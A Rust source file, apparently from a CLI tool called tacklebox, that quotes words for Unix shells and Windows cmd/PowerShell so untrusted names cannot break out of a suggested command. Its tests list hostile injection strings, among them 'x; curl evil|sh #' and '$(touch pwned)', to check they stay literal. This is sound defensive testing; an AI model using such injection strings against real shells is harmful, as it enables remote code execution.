//! Commands that a person is told to type. A name may come from a stranger: it is one word to the shell,
//! whatever is in it, or there is no such line.

use tacklebox_engine::machine::Platform;

use super::is_control;

/// `tacklebox` and these words, quoted for the shell of the system; none where a word has what no
/// person can type.
pub fn line(platform: Platform, words: &[&str]) -> Option<String> {
    let mut line = "tacklebox".to_owned();
    for word in words {
        line.push(' ');
        line.push_str(&quoted(platform, word)?);
    }
    Some(line)
}

/// The same between backquotes, as it is printed in a sentence.
pub fn code(platform: Platform, words: &[&str]) -> Option<String> {
    // A backquote in it would end it too early for whoever reads.
    line(platform, words).filter(|line| !line.contains('`')).map(|line| format!("`{line}`"))
}

/// What is said before something is turned on that was made here and not tried as it is now; `fire` are the words that try it.
pub fn never_tried(platform: Platform, fire: &[&str]) -> Option<String> {
    let command = code(platform, &[&["hooks", "fire"], fire].concat())?;
    Some(format!("It was not tried as it is now: {command} tries it in a box."))
}

fn quoted(platform: Platform, word: &str) -> Option<String> {
    if word.chars().any(is_control) {
        return None;
    }
    let plain = |c: char| c.is_alphanumeric() || "-_./:@%+=,".contains(c);
    if !word.is_empty()
        && word.chars().all(plain)
        && (platform != Platform::Win32 || !word.contains('%'))
    {
        return Some(word.to_owned());
    }
    match platform {
        // cmd and PowerShell read different things in different quotes: only what both take as it is.
        Platform::Win32
            if word
                .contains(['"', '%', '$', '`', '!', '^', '\u{201c}', '\u{201d}', '\u{201e}']) =>
        {
            None
        }
        Platform::Win32 => Some(format!("\"{word}\"")),
        Platform::Linux | Platform::Darwin => Some(format!("'{}'", word.replace('\'', "'\\''"))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: [&str; 10] = [
        "x; curl evil|sh #",
        "$(touch pwned)",
        "`touch pwned`",
        "it's",
        "a b",
        "a&&b",
        "\\",
        "*",
        "~root",
        "",
    ];

    #[test]
    #[cfg(unix)]
    fn a_shell_takes_every_word_for_what_it_is() {
        for word in HOSTILE {
            let line = line(Platform::Linux, &["hooks", word]).unwrap();
            let line = line.replacen("tacklebox", "printf '%s|'", 1);
            let said = std::process::Command::new("/bin/sh").args(["-c", &line]).output().unwrap();
            assert_eq!(String::from_utf8(said.stdout).unwrap(), format!("hooks|{word}|"), "{line}");
            assert!(said.stderr.is_empty(), "{line}");
        }
    }

    #[test]
    fn plain_names_stay_plain_and_what_cannot_be_typed_is_no_command() {
        let of = |platform, word| line(platform, &["hooks", "info", word]);
        let plain = Some("tacklebox hooks info milady/managed/greeter".to_owned());
        for platform in [Platform::Linux, Platform::Darwin, Platform::Win32] {
            assert_eq!(of(platform, "milady/managed/greeter"), plain);
            assert_eq!(of(platform, "two\nlines"), None);
            assert_eq!(of(platform, "es\u{1b}c"), None);
            assert_eq!(of(platform, "zero\u{200b}"), None);
        }
        assert_eq!(of(Platform::Win32, "a b").as_deref(), Some("tacklebox hooks info \"a b\""));
        for word in ["a\"b", "%PATH%", "$(x)", "a`b"] {
            assert_eq!(of(Platform::Win32, word), None, "{word}");
        }
        assert_eq!(code(Platform::Linux, &["a`b"]), None);
    }
}
